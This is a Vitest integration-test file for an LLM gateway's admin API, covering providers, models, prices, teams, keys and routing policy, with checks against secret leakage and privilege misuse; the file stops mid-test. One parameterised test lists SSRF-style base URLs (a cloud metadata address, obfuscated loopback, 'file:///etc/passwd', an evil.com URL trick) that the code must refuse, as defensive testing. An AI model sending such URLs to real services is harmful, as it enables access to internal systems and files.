import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import * as auditRoute from "@/app/api/v1/audit/route";
import * as modelRoute from "@/app/api/v1/models/[modelId]/route";
import * as modelPricesRoute from "@/app/api/v1/models/[modelId]/prices/route";
import * as modelsRoute from "@/app/api/v1/models/route";
import * as openapiRoute from "@/app/api/v1/openapi.json/route";
import * as providerRoute from "@/app/api/v1/providers/[providerId]/route";
import * as savedProviderTestRoute from "@/app/api/v1/providers/[providerId]/test/route";
import * as providersRoute from "@/app/api/v1/providers/route";
import * as providerTestRoute from "@/app/api/v1/providers/test/route";
import * as requestsRoute from "@/app/api/v1/requests/route";
import * as settingsRoute from "@/app/api/v1/settings/route";
import * as keyRoute from "@/app/api/v1/teams/[teamId]/keys/[keyId]/route";
import * as keysRoute from "@/app/api/v1/teams/[teamId]/keys/route";
import * as memberRoute from "@/app/api/v1/teams/[teamId]/members/[userId]/route";
import * as membersRoute from "@/app/api/v1/teams/[teamId]/members/route";
import * as teamRoute from "@/app/api/v1/teams/[teamId]/route";
import * as policyRoute from "@/app/api/v1/teams/[teamId]/routing-policy/route";
import * as tryRoute from "@/app/api/v1/teams/[teamId]/routing-policy/try/route";
import * as teamsRoute from "@/app/api/v1/teams/route";
import * as usersRoute from "@/app/api/v1/users/route";
import { ENDPOINTS } from "@/lib/api/contract";
import { prisma } from "@/lib/db/client";
import { writeRequestLogBatch } from "@/lib/db/request-log";
import { setRuleTargets } from "@/lib/db/swaps";
import { startDemoUpstream, type DemoUpstream } from "@/lib/demo-upstream/server";
import { hashApiKey } from "@/lib/gateway/snapshot";
import { adminToken, call, makeUser, type As } from "@/lib/testing/api";
import { makeLogRecord, uid } from "@/lib/testing/factories";

// Behaviour of every control-plane resource through its real route handler, against a real database.

// Log everything, so the canary check below sees whatever the code would print in production at debug level.
vi.hoisted(() => {
  process.env.SWITCHYARD_LOG_LEVEL = "debug";
});

type Handler = Parameters<typeof call>[0];
type Opts = Omit<Parameters<typeof call>[1], "as"> & { as?: As };
const A = adminToken();
const req = (h: unknown, o: Opts = {}) => call(h as Handler, { as: A, ...o });
const CANARY = "sk-canary";

// Everything the process prints while this file runs (logger lines and console calls).
const printed: string[] = [];
let upstream: DemoUpstream;

beforeAll(async () => {
  const keep = (chunk: unknown) => printed.push(typeof chunk === "string" ? chunk : Buffer.isBuffer(chunk) ? chunk.toString("utf8") : String(chunk));
  const err = process.stderr.write.bind(process.stderr);
  vi.spyOn(process.stdout, "write").mockImplementation(((chunk: unknown) => (keep(chunk), true)) as never);
  vi.spyOn(process.stderr, "write").mockImplementation(((chunk: unknown, ...rest: unknown[]) => (keep(chunk), err(chunk as string, ...(rest as []))) ) as never);
  for (const m of ["log", "info", "warn", "error", "debug"] as const) {
    vi.spyOn(console, m).mockImplementation((...args: unknown[]) => void keep(args.map((a) => (typeof a === "string" ? a : JSON.stringify(a, bigints))).join(" ")));
  }
  upstream = await startDemoUpstream({ latencyScale: 0 });
});

afterAll(async () => {
  vi.restoreAllMocks();
  await upstream?.close();
});

const bigints = (_k: string, v: unknown) => (typeof v === "bigint" ? v.toString() : v);
const allAuditJson = async () => JSON.stringify(await prisma.auditEvent.findMany(), bigints);

async function newProvider(over: Record<string, unknown> = {}) {
  const res = await req(providersRoute.POST, { body: { name: uid("prov"), kind: "openai", baseUrl: "https://api.example.com/v1", apiKey: `sk-test-${uid("k")}`, ...over } });
  expect(res.status, res.text).toBe(201);
  return res.body as { id: string; name: string; apiKeyHint: string; baseUrl: string };
}

async function newModel(providerId: string, over: Record<string, unknown> = {}) {
  const res = await req(modelsRoute.POST, { body: { providerId, name: uid("model"), upstreamModel: "gpt-4o", inputPricePerMTok: 2.5, outputPricePerMTok: 10, ...over } });
  expect(res.status, res.text).toBe(201);
  return res.body as { id: string; name: string };
}

async function newTeam(over: Record<string, unknown> = {}) {
  const res = await req(teamsRoute.POST, { body: { name: uid("Team"), slug: uid("team"), ...over } });
  expect(res.status, res.text).toBe(201);
  return res.body as { id: string; name: string; slug: string };
}

/** A local upstream that lists models only for one exact key (proves which key "test connection" sent). */
async function keyCheckingUpstream(key: string) {
  const seen: string[] = [];
  const server = http.createServer((rq, rs) => {
    seen.push(rq.headers.authorization ?? "");
    if (rq.url !== "/v1/models" || rq.headers.authorization !== `Bearer ${key}`) {
      rs.writeHead(401, { "content-type": "application/json" }).end('{"error":{"message":"bad key"}}');
      return;
    }
    rs.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ object: "list", data: [{ id: "in-house-1" }, { id: "in-house-2" }] }));
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    seen,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}

async function closedPort(): Promise<number> {
  const server = http.createServer();
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const { port } = server.address() as AddressInfo;
  await new Promise<void>((r) => server.close(() => r()));
  return port;
}

/** RFC 4180: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else if (ch !== "\r") cell += ch;
  }
  if (cell !== "" || row.length) rows.push([...row, cell]);
  return rows;
}

// ───────────── providers ─────────────

describe("providers", () => {
  it("creates, lists, gets, patches and deletes, and the key never appears in a response or an audit row", async () => {
    const canary = `${CANARY}-${uid("p")}`;
    const name = uid("prov");
    const created = await req(providersRoute.POST, { body: { name, kind: "openai-compatible", baseUrl: "https://api.example.com/v1/", apiKey: canary, inHouse: true } });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ name, kind: "openai-compatible", baseUrl: "https://api.example.com/v1", hasApiKey: true, inHouse: true, enabled: true, modelCount: 0 });
    expect(created.body.apiKeyHint).toBe(`sk-…${canary.slice(-4)}`);
    const id = created.body.id as string;

    const list = await req(providersRoute.GET);
    expect(list.status).toBe(200);
    expect(list.body.data.find((p: { id: string }) => p.id === id)?.name).toBe(name);

    const got = await req(providerRoute.GET, { params: { providerId: id } });
    expect(got.body).toMatchObject({ id, name, apiKeyHint: `sk-…${canary.slice(-4)}` });

    const patched = await req(providerRoute.PATCH, { method: "PATCH", params: { providerId: id }, body: { enabled: false, connectTimeoutMs: 1500 } });
    expect(patched.status).toBe(200);
    expect(patched.body).toMatchObject({ enabled: false, connectTimeoutMs: 1500, apiKeyHint: `sk-…${canary.slice(-4)}` });

    const gone = await req(providerRoute.DELETE, { method: "DELETE", params: { providerId: id } });
    expect(gone.status).toBe(200);
    expect(gone.body).toEqual({ ok: true });
    expect((await req(providerRoute.GET, { params: { providerId: id } })).status).toBe(404);

    for (const r of [created, list, got, patched, gone]) expect(r.text).not.toContain(canary);
    const audit = await prisma.auditEvent.findMany({ where: { resourceType: "provider", resourceId: id }, orderBy: { id: "asc" } });
    expect(audit.map((e) => e.action)).toEqual(["provider.create", "provider.update", "provider.delete"]);
    expect(audit.every((e) => e.actorLabel === "admin-token")).toBe(true);
    expect(audit[0]!.after).toMatchObject({ name, apiKeyHint: `sk-…${canary.slice(-4)}`, baseUrl: "https://api.example.com/v1" });
    expect(audit[1]!.before).toMatchObject({ enabled: true });
    expect(audit[1]!.after).toMatchObject({ enabled: false, connectTimeoutMs: 1500 });
    expect(JSON.stringify(audit, bigints)).not.toContain(CANARY);
    const row = await prisma.provider.findMany({ where: { name } });
    expect(row).toHaveLength(0);
  });

  it.each([
    "http://localhost:8080",
    "http://10.0.0.5/v1",
    "http://169.254.169.254/",
    "http://[::ffff:127.0.0.2]/",
    "http://167772161/", // decimal 10.0.0.1
    "http://0x7f000002/", // hex 127.0.0.2
    "http://user:pass@api.example.com",
    "http://api.example.com#@evil.com",
    "file:///etc/passwd",
    "ftp://x",
  ])("refuses the base URL %s at save (422 naming baseUrl) and stores nothing", async (baseUrl) => {
    const name = uid("ssrf");
    const res = await req(providersRoute.POST, { body: { name, kind: "openai", baseUrl, apiKey: "sk-test-1234567890" } });
    expect(res.status, res.text).toBe(422);
    expect(res.body.error.code).toBe("unprocessable");
    expect(res.body.error.message).toMatch(/^baseUrl: /);
    expect(res.body.error.details).toEqual([{ path: "baseUrl", message: expect.any(String) }]);
    expect(await prisma.provider.count({ where: { name } })).toBe(0);
  });

  it("refuses a PATCH to a new base URL without the key (422 naming apiKey) and accepts it with a new key", async () => {
    const p = await newProvider({ apiKey: "sk-test-old-key-1111" });
    expect(p.apiKeyHint).toBe("sk-…1111");
    const same = await req(providerRoute.PATCH, { method: "PATCH", params: { providerId: p.id }, body: { baseUrl: "https://api.example.com/v1/" } });
    expect(same.status, "the same URL (trailing slash) needs no key").toBe(200);

    const noKey = await req(providerRoute.PATCH, { method: "PATCH", params: { providerId: p.id }, body: { baseUrl: "https://other.example.com/v1" } });
    expect(noKey.status).toBe(422);
    expect(noKey.body.error.details).toEqual([{ path: "apiKey", message: expect.stringContaining("API key") }]);
    expect((await prisma.provider.findUniqueOrThrow({ where: { id: p.id } })).baseUrl).toBe("https://api.example.com/v1");

    const withKey = await req(providerRoute.PATCH, { method: "PATCH", params: { providerId: p.id }, body: { baseUrl: "https://other.example.com/v1", apiKey: "sk-test-new-key-2222" } });
    expect(withKey.status).toBe(200);
    expect(withKey.body).toMatchObject({ baseUrl: "https://other.example.com/v1", apiKeyHint: "sk-…2222", hasApiKey: true });
  });

  it("refuses to delete a provider that still has models (409 naming the model)", async () => {
    const p = await newProvider();
    const m = await newModel(p.id);
    const res = await req(providerRoute.DELETE, { method: "DELETE", params: { providerId: p.id } });
    expect(res.status).toBe(409);
    expect(res.body.error.code).toBe("conflict");
    expect(res.body.error.message).toContain(m.name);
    expect(res.body.error.details).toEqual({ usedBy: [{ model: m.name }] });
    expect(await prisma.provider.count({ where: { id: p.id } })).toBe(1);
  });

  it("answers 409 for a duplicate name, 400 naming the field for bad input, 400 for unknown fields", async () => {
    const p = await newProvider();
    const dup = await req(providersRoute.POST, { body: { name: p.name, kind: "openai", baseUrl: "https://api.example.com/v1" } });
    expect(dup.status).toBe(409);
    expect(dup.body.error.code).toBe("conflict");
    expect.soft(dup.body.error.message, "the 409 names the duplicate field").toContain("name");

    const bad = await req(providersRoute.POST, { body: { name: uid("prov"), kind: "foo", baseUrl: "https://api.example.com/v1" } });
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe("bad_request");
    expect(bad.body.error.message).toMatch(/^kind: /);
    expect(bad.body.error.details).toEqual([{ path: "kind", message: expect.any(String) }]);

    const smuggled = uid("prov");
    const mass = await req(providersRoute.POST, { body: { name: smuggled, kind: "openai", baseUrl: "https://api.example.com/v1", apiKeyCiphertext: "AAAA", keyVersion: 9 } });
    expect(mass.status).toBe(400);
    expect(mass.body.error.message).toContain("apiKeyCiphertext");
    expect(await prisma.provider.count({ where: { name: smuggled } })).toBe(0);

    const patchMass = await req(providerRoute.PATCH, { method: "PATCH", params: { providerId: p.id }, body: { apiKeyHint: "sk-…fake" } });
    expect(patchMass.status).toBe(400);

    const notJson = await req(providersRoute.POST, { rawBody: "{nope" });
    expect(notJson.status).toBe(400);
    expect(notJson.body.error.message).toBe("Body must be valid JSON");
  });
});

describe("test connection", () => {
  it("lists the demo upstream's models with a latency for unsaved settings", async () => {
    const res = await req(providerTestRoute.POST, { body: { kind: "openai", baseUrl: `${upstream.url}/v1`, apiKey: "sk-demo-test-key" } });
    expect(res.status).toBe(200);
    expect(res.body.ok).toBe(true);
    expect(res.body.status).toBe(200);
    expect(res.body.models).toEqual(expect.arrayContaining(["gpt-4o", "gpt-4o-mini"]));
    expect(res.body.models).toHaveLength(4);
    expect(typeof res.body.latencyMs).toBe("number");
    expect(res.body.latencyMs).toBeGreaterThanOrEqual(0);
    expect(res.body.message).toContain("4 model(s)");
    expect(upstream.requests.at(-1)).toMatchObject({ method: "GET", path: "/v1/models" });
  });

  it("explains a closed port (connection refused) and a blocked private address", async () => {
    const port = await closedPort();
    const refused = await req(providerTestRoute.POST, { body: { kind: "openai", baseUrl: `http://127.0.0.1:${port}/v1`, apiKey: "sk-x-1234" } });
    expect(refused.status).toBe(200);
    expect(refused.body).toMatchObject({ ok: false, models: [] });
    expect(refused.body.message).toContain("refused");

    const blocked = await req(providerTestRoute.POST, { body: { kind: "openai", baseUrl: "http://10.255.255.1/v1", apiKey: "sk-x-1234" } });
    expect(blocked.body).toMatchObject({ ok: false, latencyMs: null, models: [] });
    expect(blocked.body.message).toMatch(/^Blocked/);

    const incomplete = await req(providerTestRoute.POST, { body: { apiKey: "sk-x-1234" } });
    expect(incomplete.status).toBe(400);
  });

  it("never follows a redirect (the key would go to the redirect's host)", async () => {
    const target = await keyCheckingUpstream("sk-test-redirect-0000");
    const redirector = http.createServer((_rq, rs) => rs.writeHead(302, { location: `${target.url}/v1/models` }).end());
    await new Promise<void>((r) => redirector.listen(0, "127.0.0.1", r));
    try {
      const { port } = redirector.address() as AddressInfo;
      const res = await req(providerTestRoute.POST, { body: { kind: "openai", baseUrl: `http://127.0.0.1:${port}/v1`, apiKey: "sk-test-redirect-0000" } });
      expect(res.body).toMatchObject({ ok: false, status: 302, models: [] });
      expect(res.body.message).toContain("redirect");
      expect(target.seen).toEqual([]);
    } finally {
      redirector.closeAllConnections();
      await new Promise<void>((r) => redirector.close(() => r()));
      await target.close();
    }
  });

  it("tests a saved provider with its stored key, and a changed base URL only with the key re-entered", async () => {
    const canary = `${CANARY}-${uid("t")}`;
    const up = await keyCheckingUpstream(canary);
    try {
      const p = await newProvider({ baseUrl: `${up.url}/v1`, apiKey: canary });
      const res = await req(savedProviderTestRoute.POST, { method: "POST", params: { providerId: p.id } });
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ ok: true, status: 200, models: ["in-house-1", "in-house-2"] });
      expect(up.seen).toEqual([`Bearer ${canary}`]);
      expect(res.text).not.toContain(canary);

      const moved = await req(savedProviderTestRoute.POST, { params: { providerId: p.id }, body: { baseUrl: `${upstream.url}/v1` } });
      expect(moved.status).toBe(422);
      expect(moved.body.error.details[0].path).toBe("apiKey");
      expect(up.seen).toHaveLength(1);

      const wrongKey = await req(savedProviderTestRoute.POST, { params: { providerId: p.id }, body: { apiKey: "sk-test-wrong-0000" } });
      expect(wrongKey.body).toMatchObject({ ok: false, status: 401 });
      expect(wrongKey.body.message).toContain("rejected the API key");
    } finally {
      await up.close();
    }
  });
});

// ───────────── models ─────────────

describe("models", () => {
  it("keeps a price history: create, PATCH prices (new version), POST a past and a future price", async () => {
    const p = await newProvider();
    const created = await req(modelsRoute.POST, { body: { providerId: p.id, name: uid("model"), upstreamModel: "gpt-4o", inputPricePerMTok: 2.5, outputPricePerMTok: 10, aliases: [uid("alias")], contextWindow: 128000 } });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ providerId: p.id, providerName: p.name, inputPricePerMTok: 2.5, outputPricePerMTok: 10, contextWindow: 128000 });
    expect(created.body.prices).toHaveLength(1);
    const id = created.body.id as string;

    const list = await req(modelsRoute.GET, { path: `/api/v1/models?providerId=${p.id}` });
    expect(list.body.data).toHaveLength(1);
    expect(list.body.data[0]).toMatchObject({ id, inputPricePerMTok: 2.5, outputPricePerMTok: 10 });

    await new Promise((r) => setTimeout(r, 5));
    const patched = await req(modelRoute.PATCH, { method: "PATCH", params: { modelId: id }, body: { inputPricePerMTok: 2, outputPricePerMTok: 8 } });
    expect(patched.status).toBe(200);
    expect(patched.body).toMatchObject({ inputPricePerMTok: 2, outputPricePerMTok: 8 });
    expect(patched.body.prices.map((x: { inputPricePerMTok: number }) => x.inputPricePerMTok)).toEqual([2, 2.5]);
    expect(Date.parse(patched.body.prices[0].effectiveFrom)).toBeGreaterThan(Date.parse(patched.body.prices[1].effectiveFrom));

    const past = await req(modelPricesRoute.POST, { params: { modelId: id }, body: { inputPricePerMTok: 5, outputPricePerMTok: 15, effectiveFrom: "2024-01-01T00:00:00.000Z" } });
    expect(past.status).toBe(201);
    expect(past.body.prices).toHaveLength(3);
    expect(past.body.prices[2]).toEqual({ inputPricePerMTok: 5, outputPricePerMTok: 15, effectiveFrom: "2024-01-01T00:00:00.000Z" });
    expect(past.body).toMatchObject({ inputPricePerMTok: 2, outputPricePerMTok: 8 }); // the newest price in effect stays current

    const future = await req(modelPricesRoute.POST, { params: { modelId: id }, body: { inputPricePerMTok: 1, outputPricePerMTok: 4, effectiveFrom: "2999-01-01T00:00:00.000Z" } });
    expect(future.status).toBe(201);
    expect(future.body.prices[0].effectiveFrom).toBe("2999-01-01T00:00:00.000Z");
    expect(future.body).toMatchObject({ inputPricePerMTok: 2, outputPricePerMTok: 8 });

    const again = await req(modelPricesRoute.POST, { params: { modelId: id }, body: { inputPricePerMTok: 1, outputPricePerMTok: 4, effectiveFrom: "2024-01-01T00:00:00.000Z" } });
    expect(again.status).toBe(409);

    const half = await req(modelRoute.PATCH, { method: "PATCH", params: { modelId: id }, body: { inputPricePerMTok: 3 } });
    expect(half.status).toBe(400);
    expect(half.body.error.details[0].path).toBe("outputPricePerMTok");
    expect(await prisma.modelPrice.count({ where: { modelId: id } })).toBe(4);
  });

  it("refuses names that clash (409 naming the model) and the reserved name auto (400)", async () => {
    const p = await newProvider();
    const m = await newModel(p.id);
    const alias = await req(modelsRoute.POST, { body: { providerId: p.id, name: uid("model"), upstreamModel: "x", inputPricePerMTok: 1, outputPricePerMTok: 1, aliases: [m.name.toUpperCase()] } });
    expect(alias.status).toBe(409);
    expect(alias.body.error.message).toContain(`the model "${m.name}"`);

    const auto = await req(modelsRoute.POST, { body: { providerId: p.id, name: "auto", upstreamModel: "x", inputPricePerMTok: 1, outputPricePerMTok: 1 } });
    expect(auto.status).toBe(400);
    expect(auto.body.error.details[0]).toEqual({ path: "name", message: '"auto" is reserved for automatic routing' });

    const autoAlias = await req(modelsRoute.POST, { body: { providerId: p.id, name: uid("model"), upstreamModel: "x", inputPricePerMTok: 1, outputPricePerMTok: 1, aliases: ["Auto"] } });
    expect(autoAlias.status).toBe(400);
    expect(autoAlias.body.error.details[0].path).toBe("aliases.0");

    const noProvider = await req(modelsRoute.POST, { body: { providerId: "nope", name: uid("model"), upstreamModel: "x", inputPricePerMTok: 1, outputPricePerMTok: 1 } });
    expect(noProvider.status).toBe(422);
    expect(noProvider.body.error.details[0].path).toBe("providerId");
  });

  it("refuses to delete a model a routing policy uses (409 naming team and task) and deletes an unused one", async () => {
    const p = await newProvider();
    const used = await newModel(p.id);
    const unused = await newModel(p.id);
    const team = await newTeam();
    const put = await req(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [{ task: "code", models: [used.name] }], defaultModels: [] } });
    expect(put.status, put.text).toBe(200);

    const refused = await req(modelRoute.DELETE, { method: "DELETE", params: { modelId: used.id } });
    expect(refused.status).toBe(409);
    expect(refused.body.error.message).toContain(team.name);
    expect(refused.body.error.message).toContain('task "code"');
    expect(refused.body.error.details).toEqual({ usedBy: [{ team: team.name, teamId: team.id, task: "code" }] });

    const ok = await req(modelRoute.DELETE, { method: "DELETE", params: { modelId: unused.id } });
    expect(ok.status).toBe(200);
    expect((await req(modelRoute.GET, { params: { modelId: unused.id } })).status).toBe(404);
    expect((await req(modelRoute.GET, { params: { modelId: used.id } })).status).toBe(200);
  });

  it("refuses to delete a model that is a team's only allowed model (deleting it would let the team use every model)", async () => {
    const p = await newProvider();
    const allowed = await newModel(p.id);
    const other = await newModel(p.id);
    const team = await newTeam();
    const put = await req(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [], defaultModels: [], allowedModels: [allowed.name] } });
    expect(put.status, put.text).toBe(200);
    const before = await req(tryRoute.POST, { params: { teamId: team.id }, body: { prompt: "hi", model: other.name } });
    expect(before.body).toMatchObject({ ok: false, status: 403, code: "model_not_allowed" });

    const del = await req(modelRoute.DELETE, { method: "DELETE", params: { modelId: allowed.id } });
    const after = await req(tryRoute.POST, { params: { teamId: team.id }, body: { prompt: "hi", model: other.name } });
    expect.soft(after.body, "the team's model restriction must survive").toMatchObject({ ok: false, status: 403 });
    expect(del.status).toBe(409);
    expect(del.body.error.message).toContain(team.name);
  });
});

// ───────────── teams, members, keys ─────────────

describe("teams", () => {
  it("creates with a slug, refuses a duplicate slug (409) and a bad slug (400 path slug)", async () => {
    const slug = uid("team");
    const t = await req(teamsRoute.POST, { body: { name: uid("Team"), slug, costCenter: "CC-42", monthlyBudgetUsd: 250.5, budgetAlertThresholds: [90, 50] } });
    expect(t.status).toBe(201);
    expect(t.body).toMatchObject({ slug, costCenter: "CC-42", monthlyBudgetUsd: 250.5, budgetAlertThresholds: [50, 90], archivedAt: null, memberCount: 0, activeKeyCount: 0 });

    const dup = await req(teamsRoute.POST, { body: { name: uid("Team"), slug } });
    expect(dup.status).toBe(409);
    expect.soft(dup.body.error.message, "the 409 names the duplicate field").toContain("slug");

    const bad = await req(teamsRoute.POST, { body: { name: uid("Team"), slug: "-Bad Slug!" } });
    expect(bad.status).toBe(400);
    expect(bad.body.error.details.map((d: { path: string }) => d.path)).toEqual(["slug"]);
  });

  it("lets an admin PATCH a team; a team lead's PATCH of its own budget is refused (403) and changes nothing", async () => {
    const t = await newTeam({ monthlyBudgetUsd: 100 });
    const patched = await req(teamRoute.PATCH, { method: "PATCH", params: { teamId: t.id }, body: { name: "Renamed " + t.slug, monthlyBudgetUsd: 500, storeBodies: true } });
    expect(patched.status).toBe(200);
    expect(patched.body).toMatchObject({ name: "Renamed " + t.slug, monthlyBudgetUsd: 500, storeBodies: true });

    const { as } = await makeUser("team_lead", [{ teamId: t.id }]);
    const lead = await call(teamRoute.PATCH, { method: "PATCH", params: { teamId: t.id }, body: { monthlyBudgetUsd: 1_000_000 }, as });
    expect(lead.status).toBe(403);
    expect(Number((await prisma.team.findUniqueOrThrow({ where: { id: t.id } })).monthlyBudgetUsd)).toBe(500);
    const own = await call(teamRoute.GET, { params: { teamId: t.id }, as });
    expect(own.body.monthlyBudgetUsd).toBe(500);
  });

  it("archives: the team is listed only with ?archived=true", async () => {
    const t = await newTeam();
    const del = await req(teamRoute.DELETE, { method: "DELETE", params: { teamId: t.id } });
    expect(del.status).toBe(200);
    const active = await req(teamsRoute.GET, { path: "/api/v1/teams" });
    expect(active.body.data.some((x: { id: string }) => x.id === t.id)).toBe(false);
    const archived = await req(teamsRoute.GET, { path: "/api/v1/teams?archived=true" });
    const row = archived.body.data.find((x: { id: string }) => x.id === t.id);
    expect(row?.archivedAt).toEqual(expect.any(String));
    expect(archived.body.data.every((x: { archivedAt: string | null }) => x.archivedAt !== null)).toBe(true);
    const key = await req(keysRoute.POST, { params: { teamId: t.id }, body: { name: "late" } });
    expect(key.status).toBe(422);
  });
});

describe("members", () => {
  it("adds by email (201), refuses an unknown email (422), removes, and a team lead cannot add (403)", async () => {
    const t = await newTeam();
    const { user } = await makeUser("viewer");
    const added = await req(membersRoute.POST, { params: { teamId: t.id }, body: { email: user.email.toUpperCase(), role: "team_lead" } });
    expect(added.status).toBe(201);
    expect(added.body).toMatchObject({ userId: user.id, email: user.email, role: "team_lead" });
    const list = await req(membersRoute.GET, { params: { teamId: t.id } });
    expect(list.body.data.map((m: { userId: string }) => m.userId)).toEqual([user.id]);

    const unknown = await req(membersRoute.POST, { params: { teamId: t.id }, body: { email: `${uid("nobody")}@example.test`, role: "viewer" } });
    expect(unknown.status).toBe(422);
    expect(unknown.body.error.details[0].path).toBe("email");

    const { user: other } = await makeUser("viewer");
    const { as: lead } = await makeUser("team_lead", [{ teamId: t.id }]);
    const byLead = await call(membersRoute.POST, { params: { teamId: t.id }, body: { email: other.email, role: "viewer" }, as: lead });
    expect(byLead.status).toBe(403);
    expect(await prisma.teamMember.count({ where: { teamId: t.id, userId: other.id } })).toBe(0);

    const removed = await req(memberRoute.DELETE, { method: "DELETE", params: { teamId: t.id, userId: user.id } });
    expect(removed.status).toBe(200);
    expect(await prisma.teamMember.count({ where: { teamId: t.id, userId: user.id } })).toBe(0);
    const again = await req(memberRoute.DELETE, { method: "DELETE", params: { teamId: t.id, userId: user.id } });
    expect(again.status).toBe(404);
  });
});

describe("API keys", () => {
  it("shows the key once, lists only its prefix, stores only its SHA-256, and revokes", async () => {
    const t = await newTeam();
    const created = await req(keysRoute.POST, { params: { teamId: t.id }, body: { name: "ci" } });
    expect(created.status).toBe(201);
    const key = created.body.key as string;
    expect(key).toMatch(/^sy-[A-Za-z0-9_-]{40,}$/);
    expect(created.body).toMatchObject({ teamId: t.id, name: "ci", prefix: key.slice(0, 10), status: "active", revokedAt: null });

    const list = await req(keysRoute.GET, { params: { teamId: t.id } });
    expect(list.body.data).toHaveLength(1);
    expect(list.body.data[0]).not.toHaveProperty("key");
    expect(list.body.data[0].prefix).toBe(key.slice(0, 10));
    expect(list.text).not.toContain(key);
    expect(list.text).not.toContain(key.slice(10));

    const row = await prisma.apiKey.findUniqueOrThrow({ where: { id: created.body.id } });
    expect(row.keyHash).toBe(hashApiKey(key));
    expect(JSON.stringify(row)).not.toContain(key.slice(10));
    expect(await allAuditJson()).not.toContain(key.slice(10));

    const revoked = await req(keyRoute.DELETE, { method: "DELETE", params: { teamId: t.id, keyId: created.body.id } });
    expect(revoked.status).toBe(200);
    expect(revoked.body.status).toBe("revoked");
    expect(revoked.body.revokedAt).toEqual(expect.any(String));
    expect((await req(keysRoute.GET, { params: { teamId: t.id } })).body.data[0].status).toBe("revoked");
  });

  it("lets a team lead create keys for its own team only; refuses teamId in the body and budgets above the team's", async () => {
    const a = await newTeam({ monthlyBudgetUsd: 100 });
    const b = await newTeam();
    const { user, as } = await makeUser("team_lead", [{ teamId: a.id }]);
    const own = await call(keysRoute.POST, { params: { teamId: a.id }, body: { name: "mine", monthlyBudgetUsd: 40 }, as });
    expect(own.status).toBe(201);
    expect(own.body).toMatchObject({ createdBy: user.email, monthlyBudgetUsd: 40 });

    const other = await call(keysRoute.POST, { params: { teamId: b.id }, body: { name: "theirs" }, as });
    expect(other.status).toBe(403);
    expect(await prisma.apiKey.count({ where: { teamId: b.id } })).toBe(0);

    const smuggled = await call(keysRoute.POST, { params: { teamId: a.id }, body: { name: "x", teamId: b.id }, as });
    expect(smuggled.status).toBe(400);
    expect(smuggled.body.error.message).toContain("teamId");

    const over = await call(keysRoute.POST, { params: { teamId: a.id }, body: { name: "big", monthlyBudgetUsd: 100.01 }, as });
    expect(over.status).toBe(422);
    expect(over.body.error.details[0].path).toBe("monthlyBudgetUsd");
    expect(await prisma.apiKey.count({ where: { teamId: a.id } })).toBe(1);
  });
});

// ───────────── routing policy ─────────────

describe("routing policy", () => {
  async function setup() {
    const p = await newProvider();
    const alias2 = uid("alias");
    const [m1, m2, m3] = [await newModel(p.id), await newModel(p.id, { aliases: [alias2] }), await newModel(p.id)];
    const team = await newTeam();
    return { p, m1: m1!, m2: m2!, m3: m3!, alias2, team };
  }

  it("stores rules and defaults by name or alias and returns them in order with weights", async () => {
    const { m1, m2, m3, alias2, team } = await setup();
    const put = await req(policyRoute.PUT, {
      method: "PUT",
      params: { teamId: team.id },
      body: { rules: [{ task: "code", models: [m1.name, alias2], weights: [3, 1] }, { task: "writing", models: [m3.name, m1.name] }], defaultModels: [m2.name.toUpperCase(), m3.name] },
    });
    expect(put.status, put.text).toBe(200);
    const got = await req(policyRoute.GET, { params: { teamId: team.id } });
    expect(got.status).toBe(200);
    const byTask = Object.fromEntries(got.body.rules.map((r: { task: string }) => [r.task, r]));
    expect(byTask.code).toEqual({ task: "code", models: [m1.name, m2.name], weights: [3, 1] });
    expect(byTask.writing).toEqual({ task: "writing", models: [m3.name, m1.name] });
    expect(got.body.rules).toHaveLength(2);
    expect(got.body.defaultModels).toEqual([m2.name, m3.name]);
    expect(got.body.version).toBeGreaterThanOrEqual(1);
  });

  it("a swap-pinned rule (weight 100, then unweighted fallbacks) read and saved back unchanged keeps its fallbacks", async () => {
    const { m1, m2, m3, team } = await setup();
    // What a completed swap writes (lib/services/swaps.ts canaryRule): the candidate pinned, the old model behind it.
    await prisma.$transaction((tx) => setRuleTargets(team.id, "code", [{ model: m2.name, weight: 100 }, { model: m1.name, weight: null }, { model: m3.name, weight: null }], tx));
    const chain = async () => (await req(tryRoute.POST, { params: { teamId: team.id }, body: { prompt: "x", task: "code" } })).body.chain.map((c: { name: string }) => c.name);
    expect(await chain()).toEqual([m2.name, m1.name, m3.name]);

    const got = await req(policyRoute.GET, { params: { teamId: team.id } });
    const { rules, defaultModels, tasks, qualityTolerance } = got.body;
    expect(rules).toEqual([{ task: "code", models: [m2.name, m1.name, m3.name], weights: [100, 0, 0] }]);
    const put = await req(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules, defaultModels, tasks, qualityTolerance } });
    expect(put.status, put.text).toBe(200);
    expect(await chain()).toEqual([m2.name, m1.name, m3.name]);
  });

  it("refuses an unknown model (422 path rules.0.models.1) and a task the team does not have (422)", async () => {
    const { m1, team } = await setup();
    const unknown = await req(policyRoute.PUT, { method: "PUT", params: { teamId: team.id }, body: { rules: [{ task: "code", models: [m1.name, "no-such-model"] }], defaultModels: [] } });
    expect(unknown.status).toBe(422);
    expect(unknown.body.error.details).toEqual([{ path: "rules.0.models.1", message: 'No model named "no-such-model"' }]);

